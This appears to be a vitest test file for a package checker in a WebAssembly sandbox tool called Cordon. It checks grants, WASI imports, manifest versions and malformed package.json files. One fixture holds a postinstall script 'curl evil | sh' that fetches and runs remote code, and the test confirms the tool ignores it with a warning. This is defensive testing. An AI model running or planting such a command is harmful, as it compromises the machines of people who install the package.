import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { withCustomSection } from "../../test/fixtures/custom-section.js";
import { buildComponent, ECHO_BODY, echoComponent, wasiComponent } from "../../test/fixtures/wat-components.js";
import { MANIFEST_SECTION } from "../sandbox/manifest.js";
import { PackageRefused } from "./errors.js";
import { checkProxyPackage } from "./package-contents.js";
import { writeTarball } from "./tar-write.js";

process.env.CORDON_CACHE_DIR = mkdtempSync(join(tmpdir(), "cordon-package-test-"));

let echo: Uint8Array;
let wasi: Uint8Array;
beforeAll(async () => {
  [echo, wasi] = await Promise.all([echoComponent("utf8"), wasiComponent()]);
});

const ID = { name: "@t/echo", version: "1.2.0" };
const withManifestOf = (component: Uint8Array, manifest: object) =>
  withCustomSection(component, MANIFEST_SECTION, JSON.stringify(manifest));

function tarball({ pkg = {}, wasm, manifest = { version: "1.2.0" } }: { pkg?: object; wasm?: Uint8Array; manifest?: object | null } = {}) {
  const component = wasm ?? (manifest === null ? echo : withManifestOf(echo, manifest));
  return writeTarball([
    { name: "package/package.json", data: Buffer.from(JSON.stringify({ ...ID, cordon: { proxy: "echo.wasm" }, ...pkg })) },
    { name: "package/echo.wasm", data: component },
  ]);
}

async function refusal(tgz: Uint8Array): Promise<PackageRefused> {
  const error = await checkProxyPackage(tgz, ID).then(
    () => null,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(PackageRefused);
  return error as PackageRefused;
}

describe("checkProxyPackage", () => {
  it("accepts a proxy package and reports what it requests", async () => {
    const pkg = await checkProxyPackage(
      tarball({
        manifest: { version: "1.2.0", grants: ["terminal", "fs:read"] },
        pkg: { cordon: { proxy: "echo.wasm", grants: ["fs:read", "terminal"] } },
      }),
      ID,
    );
    expect(pkg).toMatchObject({ wasmPath: "echo.wasm", requested: { grants: ["fs:read", "terminal"], wasi: [] }, warnings: [] });
    expect(pkg.sha256).toMatch(/^[0-9a-f]{64}$/);
  });

  it("counts the WASI a component imports as requested, beside the manifest's grants", async () => {
    const random = await buildComponent({
      wat: `(module
        (import "cordon:proxy/channel@0.1.0" "send" (func $send (param i32 i32)))
        (import "wasi:random/random@0.2.0" "get-random-u64" (func $r (result i64)))
        ${ECHO_BODY})`,
      wit: `package wasi:random@0.2.0 { interface random { get-random-u64: func() -> u64; } }
        world guest { import wasi:random/random@0.2.0; import cordon:proxy/channel@0.1.0; export cordon:proxy/handler@0.1.0; }`,
    });
    const pkg = await checkProxyPackage(tarball({ wasm: withManifestOf(random, { version: "1.2.0", grants: ["fs:read"] }) }), ID);
    expect(pkg.requested).toEqual({ grants: ["fs:read"], wasi: ["wasi:random"] });
  });

  it("accepts the agent grants by name", async () => {
    const pkg = await checkProxyPackage(tarball({ manifest: { version: "1.2.0", grants: ["agent:prompt", "permission:allow"] } }), ID);
    expect(pkg.requested.grants).toEqual(["agent:prompt", "permission:allow"]);
  });

  it("ignores dependencies and scripts with a warning: nothing of the package runs outside the sandbox", async () => {
    const pkg = await checkProxyPackage(
      tarball({ pkg: { dependencies: { lodash: "4" }, scripts: { postinstall: "curl evil | sh" } } }),
      ID,
    );
    expect(pkg.warnings).toEqual([
      expect.stringContaining('its package.json has "dependencies", which Cordon ignores'),
      expect.stringContaining('its package.json has "scripts", which Cordon ignores'),
    ]);
  });

  it("refuses a core module instead of a component", async () => {
    const core = withManifestOf(new Uint8Array([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]), { version: "1.2.0" });
    const error = await refusal(tarball({ wasm: core }));
    expect(error.code).toBe("ECOMPONENT");
    expect(error.message).toMatch(
      /^@t\/echo@1\.2\.0: echo\.wasm cannot run as a Cordon proxy: not a WebAssembly component \(this is a core module/,
    );
  });

  it("refuses a component with an extra import, naming it", async () => {
    const error = await refusal(tarball({ wasm: withManifestOf(wasi, { version: "1.2.0" }) }));
    expect(error.code).toBe("ECOMPONENT");
    expect(error.message).toContain("it imports the WASI interface wasi:cli/environment@0.2.0, which Cordon does not provide");
  });

  it("refuses a manifest whose version is not the package's", async () => {
    const error = await refusal(tarball({ manifest: { version: "1.1.9" } }));
    expect(error.message).toBe('@t/echo@1.2.0: its manifest says version "1.1.9", the package says 1.2.0; they must be equal');
  });

  it("refuses package.json grants that disagree with the manifest's", async () => {
    const error = await refusal(
      tarball({ manifest: { version: "1.2.0", grants: ["terminal"] }, pkg: { cordon: { proxy: "echo.wasm", grants: [] } } }),
    );
    expect(error.message).toBe('@t/echo@1.2.0: package.json#cordon.grants ([]) disagrees with the manifest\'s grants (["terminal"])');
  });

  it("refuses unknown grant names", async () => {
    const error = await refusal(tarball({ manifest: { version: "1.2.0", grants: ["net:everything"] } }));
    expect(error.message).toMatch(/requests unknown grants: net:everything \(known: fs:read, /);
  });

  it("refuses a component without a manifest", async () => {
    expect((await refusal(tarball({ manifest: null }))).message).toContain("its component has no cordon:manifest section");
  });

  it("refuses a package.json that is not the one asked for, or names no component", async () => {
    expect((await refusal(tarball({ pkg: { version: "9.9.9" } }))).message).toBe('@t/echo@1.2.0: its package.json says "@t/echo"@"9.9.9"');
    expect((await refusal(tarball({ pkg: { cordon: {} } }))).message).toContain(
      'not a Cordon proxy package (its package.json needs "cordon": {"proxy": "<file>.wasm"})',
    );
    expect((await refusal(tarball({ pkg: { cordon: { proxy: "other.wasm" } } }))).message).toContain(
      'names the proxy "other.wasm", which is not in the tarball',
    );
  });
});
